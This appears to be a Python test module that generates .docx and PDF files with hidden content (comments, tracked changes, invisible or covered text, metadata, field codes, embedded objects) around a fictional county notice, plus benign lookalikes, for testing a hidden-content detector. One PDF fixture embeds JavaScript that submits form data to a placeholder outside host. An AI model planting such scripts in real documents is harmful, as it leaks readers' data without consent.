"""Hidden content planted in every place a viewer does not show, and its negatives (issue 5).

Each signal of the hidden-content detectors is planted in a generated document: .docx built as raw
OOXML (``tests/docbuild/docx.py``: comments, tracked changes, ``w:vanish`` directly and through
styles, hidden shapes, white and tiny text, the glossary, document properties, custom XML,
document variables, field codes, alt text, embedded objects) and PDFs (``tests/docbuild/pdf.py``:
Info and XMP authors, annotations, attachments; white, tiny, invisible, off-page, covered and
layered text, scripts and earlier revisions). The planted text is what the finding must show.

Negatives (group ``lookalike``, nothing planted, nothing may be reported at review or block):
a box with nothing under it (a real redaction), a box with white text on top (a label), a coloured
table header with text on it, a highlight, white text on a dark cell, a document whose metadata
is only the office's name, the defaults python-docx and reportlab write, WPS bookkeeping
properties, Word's generated alt text, a content control's placeholder in the glossary, a public
hyperlink field, an insertion-only revision.

Hidden texts are written without personal identifiers, so what they say does not depend on the
personal-data detectors (personal data inside hidden content is the personal-data corpus's).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from . import Planted, case

NOTICE = [
    "关于开展2026年春季义务植树活动的通知",
    "各乡镇人民政府，县直各有关单位：",
    "为深入推进国土绿化行动，经研究，决定于3月12日前后组织开展春季义务植树活动。",
    "一、各单位要合理安排时间，组织干部职工积极参加。",
    "二、活动期间注意安全，做好后勤保障工作。",
    "某县绿化委员会办公室",
]

#: What hides in the documents below (none of it is personal data or a mark).
SECRET = "该项目拟暂缓拨付资金，待主要领导审定后再议"
DELETED = "原定补助标准为每亩三百元"
MOVED = "此项经费从应急资金中列支"
WHITE = "内部掌握：实际完成率仅为六成"
TINY = "本数据未经统计部门核实"


def hc(kind: str, text: str, part: str, severity: str = "") -> Planted:
    return Planted("hidden_content", kind, text, part, severity)


def _docx(path: Path, body=(), **parts) -> None:
    from tests.docbuild.docx import build_docx

    build_docx(path, body=[*NOTICE[:3], *body, *NOTICE[3:]], **parts)


def _d():
    from tests.docbuild import docx

    return docx


# -- .docx: what the text hides in -----------------------------------------------------------------

@case("hidden-comment", ".docx", group="hidden",
      planted=[hc("comment", "这段表述与上级文件不一致，建议删除", "comment", "block")])
def _comment(path: Path) -> None:
    _docx(path, comments=[("审核人", "这段表述与上级文件不一致，建议删除", NOTICE[3])])


@case("hidden-tracked-deletion", ".docx", group="hidden",
      planted=[hc("tracked_change", DELETED, "revision", "block")])
def _deletion(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para("二、补助标准：", d.dele(DELETED), d.ins("按上级文件执行"), "。")])


@case("hidden-tracked-move", ".docx", group="hidden",
      planted=[hc("tracked_change", MOVED, "revision", "block")])
def _move(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para(d.move_from(MOVED)), d.para("经费安排：", d.move_to(MOVED))])


@case("hidden-vanish", ".docx", group="hidden",
      planted=[hc("hidden_text", SECRET, "hidden", "block")])
def _vanish(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para("三、资金安排按有关规定执行。", d.run(SECRET, vanish=True))])


@case("hidden-vanish-char-style", ".docx", group="hidden",
      planted=[hc("hidden_text", SECRET, "hidden", "block")])
def _vanish_style(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para("三、资金安排按有关规定执行。", d.run(SECRET, style="Note"))],
          char_styles={"Base": {"vanish": True}, "Note": {"based_on": "Base"}})


@case("hidden-vanish-para-style", ".docx", group="hidden",
      planted=[hc("hidden_text", SECRET, "hidden", "block")])
def _vanish_para_style(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para(SECRET, style="Draft")], para_styles={"Draft": {"vanish": True}})


@case("hidden-shape", ".docx", group="hidden",
      planted=[hc("hidden_text", SECRET, "hidden", "block")])
def _hidden_shape(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para(d.textbox(SECRET, hidden=True))])


@case("hidden-white", ".docx", group="hidden",
      planted=[hc("white_text", WHITE, "hidden", "review")])
def _white(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para("完成情况良好。", d.run(WHITE, color="FFFFFF"))])


@case("hidden-white-light-cell", ".docx", group="hidden",
      planted=[hc("white_text", WHITE, "hidden", "review")])
def _white_cell(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.table([["项目", "完成率"], ["植树", d.run(WHITE, color="F8F8F8")]],
                              shading="FFFFCC")])


@case("hidden-tiny", ".docx", group="hidden", planted=[hc("tiny_text", TINY, "hidden", "review")])
def _tiny(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para("全县共植树十万株。", d.run(TINY, size_pt=1))])


@case("hidden-glossary", ".docx", group="hidden",
      planted=[hc("hidden_text", "上次会议纪要：暂不对外公布选址方案", "hidden", "review")])
def _glossary(path: Path) -> None:
    _docx(path, glossary=["上次会议纪要：暂不对外公布选址方案"])


# -- .docx: properties, custom XML, fields, alt text, objects --------------------------------------

@case("hidden-meta-creator", ".docx", group="hidden",
      planted=[hc("metadata", "王建国", "metadata", "review")])
def _creator(path: Path) -> None:
    _docx(path, core={"creator": "王建国", "title": NOTICE[0]})


@case("hidden-meta-last-modified", ".docx", group="hidden",
      planted=[hc("metadata", "lixiaohong", "metadata", "review")])
def _last_modified(path: Path) -> None:
    _docx(path, core={"creator": "某县绿化委员会办公室", "lastModifiedBy": "lixiaohong"})


@case("hidden-meta-company", ".docx", group="hidden",
      planted=[hc("metadata", "某某信息技术有限公司", "metadata", "review")])
def _company(path: Path) -> None:
    _docx(path, app={"Company": "某某信息技术有限公司", "Template": "Normal.dotm"})


@case("hidden-meta-manager", ".docx", group="hidden",
      planted=[hc("metadata", "赵德明", "metadata", "review")])
def _manager(path: Path) -> None:
    _docx(path, app={"Manager": "赵德明", "Company": "某县人民政府"})


@case("hidden-meta-custom", ".docx", group="hidden",
      planted=[hc("metadata", "拟稿人：周晓梅", "metadata", "review")])
def _custom(path: Path) -> None:
    _docx(path, custom={"拟稿人": "周晓梅", "KSOProductBuildVer": "2052-12.1.0.16120"})


@case("hidden-meta-template-path", ".docx", group="hidden",
      planted=[hc("metadata", r"file:///C:\Users\zhangwei\AppData\Roaming\Microsoft\Templates"
                              r"\红头文件.dotx", "metadata", "review")])
def _template(path: Path) -> None:
    target = (r"file:///C:\Users\zhangwei\AppData\Roaming\Microsoft\Templates\红头文件.dotx")
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
            'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="rIdT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/attachedTemplate" Target="{target}" TargetMode="External"/>'
            "</Relationships>")
    _docx(path, settings_extra='<w:attachedTemplate r:id="rIdT1"/>',
          extra_parts={"word/_rels/settings.xml.rels": rels})


@case("hidden-meta-hyperlink-base", ".docx", group="hidden",
      planted=[hc("metadata", r"\\fileserver\办公室\2026", "metadata", "review")])
def _hyperlink_base(path: Path) -> None:
    _docx(path, app={"HyperlinkBase": r"\\fileserver\办公室\2026"})


@case("hidden-field-include-user-path", ".docx", group="hidden",
      planted=[hc("metadata", r'INCLUDETEXT "C:\\Users\\liuyang\\Desktop\\植树名单.docx"',
                  "hidden", "review")])
def _include(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para(d.complex_field(
        r'INCLUDETEXT "C:\\Users\\liuyang\\Desktop\\植树名单.docx"', "（名单见附件）"))])


@case("hidden-field-link-share", ".docx", group="hidden",
      planted=[hc("metadata", r'INCLUDEPICTURE "\\\\oa-server\\共享\\选址图.png"', "hidden",
                  "review")])
def _include_picture(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para(d.fld_simple(r'INCLUDEPICTURE "\\\\oa-server\\共享\\选址图.png"',
                                          "（图）"))])


@case("hidden-alt-text", ".docx", group="hidden",
      planted=[hc("metadata", "选址方案二（未定稿，勿外传）", "hidden", "review")])
def _alt_text(path: Path) -> None:
    d = _d()
    _docx(path, body=[d.para(d.image_with_alt(descr="选址方案二（未定稿，勿外传）"))])


@case("hidden-custom-xml", ".docx", group="hidden",
      planted=[hc("custom_xml", "审批意见: 同意，但选址需再议", "metadata", "review")])
def _custom_xml(path: Path) -> None:
    _docx(path, custom_xml=[('<oa:公文 xmlns:oa="urn:example:oa"><oa:文号>县绿委办〔2026〕2号'
                            "</oa:文号><oa:审批意见>同意，但选址需再议</oa:审批意见></oa:公文>")])


@case("hidden-doc-variable", ".docx", group="hidden",
      planted=[hc("custom_xml", "流程状态：待分管领导审批", "metadata", "review")])
def _doc_variable(path: Path) -> None:
    _docx(path, settings_extra='<w:docVars><w:docVar w:name="流程状态" w:val="待分管领导审批"/>'
                               '<w:docVar w:name="commondata" w:val="eyJoZGlkIjoiMSJ9"/>'
                               "</w:docVars>")


def _xlsx(rows: list[list[str]]) -> bytes:
    """A minimal workbook: one sheet of inline strings."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    cells = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in row) + "</row>"
        for row in rows)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"/>')
        zf.writestr("xl/workbook.xml", f"<workbook {ns}><sheets/></workbook>")
        zf.writestr("xl/worksheets/sheet1.xml", f"<worksheet {ns}><sheetData>{cells}"
                    "</sheetData></worksheet>")
    return out.getvalue()


@case("hidden-embedded-xlsx", ".docx", group="hidden",
      planted=[hc("embedded_object", "word/embeddings/Microsoft_Excel_Worksheet1.xlsx",
                  "attachment", "review")])
def _embedded_xlsx(path: Path) -> None:
    _docx(path, embeddings={"Microsoft_Excel_Worksheet1.xlsx": _xlsx(
        [["地块", "面积（亩）"], ["东山坡", "120"], ["西岭", "80"]])})


@case("hidden-embedded-ole", ".docx", group="hidden",
      planted=[hc("embedded_object", "word/embeddings/oleObject1.bin", "attachment", "review")])
def _embedded_ole(path: Path) -> None:
    _docx(path, embeddings={"oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)})


@case("hidden-embedded-docx", ".docx", group="hidden",
      planted=[hc("embedded_object", "word/embeddings/Microsoft_Word_Document.docx", "attachment",
                  "review")])
def _embedded_docx(path: Path) -> None:
    from tests.docbuild.docx import docx_bytes

    inner = docx_bytes(body=["植树活动选址方案"], comments=[("审核人", "选址方案待定", None)])
    _docx(path, embeddings={"Microsoft_Word_Document.docx": inner})


# -- .docx negatives -------------------------------------------------------------------------------

@case("hidden-neg-office-metadata", ".docx", group="lookalike")
def _office_metadata(path: Path) -> None:
    """Metadata that is only the office's name (and the title of the notice)."""
    _docx(path, core={"creator": "某县人民政府办公室", "lastModifiedBy": "某县人民政府办公室",
                      "title": NOTICE[0]},
          app={"Company": "某县人民政府", "Template": "Normal.dotm"})


@case("hidden-neg-defaults", ".docx", group="lookalike")
def _defaults(path: Path) -> None:
    """What python-docx's template and a pirated Windows write by themselves."""
    from docx import Document

    doc = Document()
    for line in NOTICE:
        doc.add_paragraph(line)
    doc.core_properties.last_modified_by = "Administrator"
    doc.save(path)


@case("hidden-neg-wps-bookkeeping", ".docx", group="lookalike")
def _wps(path: Path) -> None:
    _docx(path, core={"creator": "微软用户", "lastModifiedBy": "Administrator"},
          app={"Company": "微软中国"},
          custom={"KSOProductBuildVer": "2052-12.1.0.16120", "ICV": "A1B2C3D4E5F6"},
          settings_extra='<w:docVars><w:docVar w:name="commondata" w:val="eyJoZGlkIjoiMSJ9"/>'
                         "</w:docVars>")


@case("hidden-neg-coloured-header-and-highlight", ".docx", group="lookalike")
def _coloured(path: Path) -> None:
    """White text on a dark table header, black text on a coloured header, a highlight, white
    text on a black highlight and on dark paragraph shading: all visible."""
    d = _d()
    _docx(path, body=[
        d.table([[d.run("地块", color="FFFFFF", bold=True), d.run("面积", color="FFFFFF")],
                 ["东山坡", "120亩"]], shading="1F3864"),
        d.table([["负责单位", "完成时限"], ["林业站", "3月底前"]], shading="D9E2F3"),
        d.para("请各单位", d.run("务必于3月10日前", highlight="yellow"), "报送计划。"),
        d.para(d.run("重点任务", color="FFFFFF", highlight="black")),
        d.para(d.run("注意事项", color="FFFFFF"), shading="C00000")])


@case("hidden-neg-fields-alt-revisions", ".docx", group="lookalike")
def _fields(path: Path) -> None:
    """A public hyperlink field, a page number, Word's generated alt text, a bare image name, an
    insertion-only revision and a placeholder left in the glossary."""
    d = _d()
    _docx(path, body=[
        d.para("详见", d.fld_simple('HYPERLINK "http://www.gov.cn/zhengce/"', "中国政府网")),
        d.para(d.complex_field("PAGE", "1")),
        d.para(d.image_with_alt(descr="图片包含 树木, 户外, 草 描述已自动生成")),
        d.para(d.image_with_alt(descr="植树现场.jpg", title="图片 1")),
        d.para("活动时间", d.ins("调整为3月12日"), "。")],
        glossary=["单击或点击此处输入文字。"],
        custom_xml=[('<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/'
                    'bibliography" SelectedStyle="/APA.XSL" StyleName="APA"/>')])


# -- PDF -------------------------------------------------------------------------------------------

def _pdf(path: Path, lines=NOTICE, **kwargs) -> None:
    from tests.docbuild.pdf import build_pdf

    build_pdf(path, [list(lines)], **kwargs)


@case("hidden-pdf-author", ".pdf", group="hidden",
      planted=[hc("metadata", "陈志强", "metadata", "review")])
def _pdf_author(path: Path) -> None:
    _pdf(path, info={"Author": "陈志强", "Title": NOTICE[0], "Creator": "Microsoft Word"})


@case("hidden-pdf-xmp-creator", ".pdf", group="hidden",
      planted=[hc("metadata", "huangli", "metadata", "review")])
def _pdf_xmp(path: Path) -> None:
    from tests.docbuild.pdf import xmp_packet

    _pdf(path, info={"Producer": "WPS 文字"}, xmp=xmp_packet({"dc:creator": "huangli"}))


@case("hidden-pdf-annotation", ".pdf", group="hidden",
      planted=[hc("annotation", "此处数字与财政局口径不一致", "annotation", "review")])
def _pdf_note(path: Path) -> None:
    _pdf(path, annotations=[(1, "此处数字与财政局口径不一致")])


@case("hidden-pdf-free-text", ".pdf", group="hidden",
      planted=[hc("annotation", "待定：活动经费来源", "annotation", "review")])
def _pdf_free_text(path: Path) -> None:
    _pdf(path, annotations=[(1, "待定：活动经费来源", "FreeText")])


@case("hidden-pdf-attachment", ".pdf", group="hidden",
      planted=[hc("attachment", "选址测量数据.txt", "attachment", "review")])
def _pdf_attachment(path: Path) -> None:
    _pdf(path, attachments={"选址测量数据.txt": "东山坡 120 亩\n西岭 80 亩\n".encode()})


@case("hidden-neg-pdf-office-metadata", ".pdf", group="lookalike")
def _pdf_office(path: Path) -> None:
    _pdf(path, info={"Author": "某县人民政府办公室", "Title": NOTICE[0], "Creator": "WPS 文字",
                     "Producer": "WPS 文字"})


@case("hidden-neg-pdf-reportlab-defaults", ".pdf", group="lookalike")
def _pdf_reportlab(path: Path) -> None:
    """reportlab's own Info (anonymous, untitled, unspecified), as the marks corpus writes it."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    c = canvas.Canvas(str(path), pagesize=A4, invariant=1)
    y = A4[1] - 72
    for line in NOTICE:
        c.setFont("STSong-Light", 14)
        c.drawString(72, y, line)
        y -= 24
    c.showPage()
    c.save()


# -- PDF: text hidden by colour, size, render mode, position, boxes and layers ---------------------

COVERED_LINE = "补助金额：每户三千元"


def _painted(path: Path, *items, **kwargs) -> None:
    """NOTICE as lines, then ``items`` (painters of ``tests/docbuild/pdf.py``) drawn in order."""
    from tests.docbuild.pdf import build_pdf

    build_pdf(path, [[*NOTICE, *items]], **kwargs)


def _p():
    from tests.docbuild import pdf

    return pdf


@case("hidden-pdf-white", ".pdf", group="hidden",
      planted=[hc("white_text", WHITE, "hidden", "review")])
def _pdf_white(path: Path) -> None:
    p = _p()
    _painted(path, p.text(WHITE, line=8, color=p.WHITE))


@case("hidden-pdf-tiny", ".pdf", group="hidden",
      planted=[hc("tiny_text", TINY, "hidden", "review")])
def _pdf_tiny(path: Path) -> None:
    _painted(path, _p().text(TINY, line=8, scale=0.1))


@case("hidden-pdf-invisible", ".pdf", group="hidden",
      planted=[hc("invisible_text", SECRET, "hidden", "review")])
def _pdf_invisible(path: Path) -> None:
    _painted(path, _p().text(SECRET, line=8, mode=3))


@case("hidden-pdf-offpage", ".pdf", group="hidden",
      planted=[hc("offpage_text", "东山坡地块另作他用", "hidden", "review")])
def _pdf_offpage(path: Path) -> None:
    _painted(path, _p().text("东山坡地块另作他用", line=8, x=640))


@case("hidden-pdf-outside-crop-box", ".pdf", group="hidden",
      planted=[hc("offpage_text", "裁切框外的备注", "hidden", "review")])
def _pdf_crop(path: Path) -> None:
    _painted(path, _p().text("裁切框外的备注", line=30), crop_box=(0, 300, 595, 842))


@case("hidden-pdf-covered", ".pdf", group="hidden",
      planted=[hc("covered_text", "每户三千元", "hidden", "block")])
def _pdf_covered(path: Path) -> None:
    p = _p()
    _painted(path, COVERED_LINE, p.box(p.span(COVERED_LINE, 5, line=len(NOTICE))))


@case("hidden-pdf-covered-path", ".pdf", group="hidden",
      planted=[hc("covered_text", "每户三千元", "hidden", "block")])
def _pdf_covered_path(path: Path) -> None:
    p = _p()
    _painted(path, COVERED_LINE, p.box(p.span(COVERED_LINE, 5, line=len(NOTICE)), as_lines=True))


@case("hidden-pdf-layer", ".pdf", group="hidden",
      planted=[hc("hidden_text", SECRET, "hidden", "block")])
def _pdf_layer(path: Path) -> None:
    _painted(path, _p().text(SECRET, line=8, layer="OC1"), layers={"OC1": ("草稿意见", False)})


@case("hidden-pdf-javascript", ".pdf", group="hidden",
      planted=[hc("javascript", "this.submitForm('http://example.com/collect');", "hidden",
                  "review")])
def _pdf_javascript(path: Path) -> None:
    _pdf(path)
    _p().add_javascript(path, "this.submitForm('http://example.com/collect');")


@case("hidden-pdf-prior-revision", ".pdf", group="hidden",
      planted=[hc("prior_revision", "补助标准为每亩三百元", "hidden", "block")])
def _pdf_prior_revision(path: Path) -> None:
    _pdf(path, [*NOTICE, "补助标准为每亩三百元"])
    _p().incremental_update(path, pages={1: [*NOTICE, "补助标准按上级文件执行"]})


@case("hidden-pdf-stamp", ".pdf", group="hidden",
      planted=[hc("annotation", "内部审核：已阅", "annotation", "review")])
def _pdf_stamp(path: Path) -> None:
    _pdf(path)
    _p().add_stamp(path, 1, "内部审核：已阅")


@case("hidden-pdf-file-annotation", ".pdf", group="hidden",
      planted=[hc("attachment", "测量记录.txt", "attachment", "review")])
def _pdf_file_annotation(path: Path) -> None:
    _pdf(path)
    _p().add_file_annotation(path, 1, "测量记录.txt", "东山坡 120 亩".encode())


# -- PDF negatives: boxes and colours that hide nothing --------------------------------------------

@case("hidden-neg-pdf-real-redaction", ".pdf", group="lookalike")
def _pdf_real_redaction(path: Path) -> None:
    """A black box where the text was really removed: nothing under it."""
    p = _p()
    _painted(path, "补助金额：", p.box(p.span(COVERED_LINE, 5, line=len(NOTICE))))


@case("hidden-neg-pdf-label", ".pdf", group="lookalike")
def _pdf_label(path: Path) -> None:
    """White text on top of a dark box: a label, readable."""
    p = _p()
    rect = (p.LEFT - 2, p.baseline(8) - 5, p.LEFT + 80, p.baseline(8) + 15)
    _painted(path, p.box(rect, color=(0.75, 0.0, 0.0)), p.text("附件1", line=8, color=p.WHITE))


@case("hidden-neg-pdf-coloured-header", ".pdf", group="lookalike")
def _pdf_header(path: Path) -> None:
    """A table header: a dark band with white text, and a light band with black text."""
    p = _p()
    dark = (p.LEFT - 2, p.baseline(8) - 5, 420, p.baseline(8) + 15)
    light = (p.LEFT - 2, p.baseline(9) - 5, 420, p.baseline(9) + 15)
    _painted(path, p.box(dark, color=(0.12, 0.22, 0.39)),
             p.text("地块　　面积　　负责单位", line=8, color=p.WHITE),
             p.box(light, color=(0.85, 0.89, 0.95)), p.text("东山坡　120亩　林业站", line=9))


@case("hidden-neg-pdf-highlight", ".pdf", group="lookalike")
def _pdf_highlight(path: Path) -> None:
    """A yellow highlight painted under the text, and a translucent one over it."""
    p = _p()
    line = "请各单位务必于3月10日前报送计划"
    _painted(path, p.box(p.span(line, 4, 11, line=8), color=(1.0, 1.0, 0.0)), p.text(line, line=8),
             p.text("注意安全", line=9),
             p.box(p.span("注意安全", line=9), color=(1.0, 1.0, 0.0), alpha=0.35))
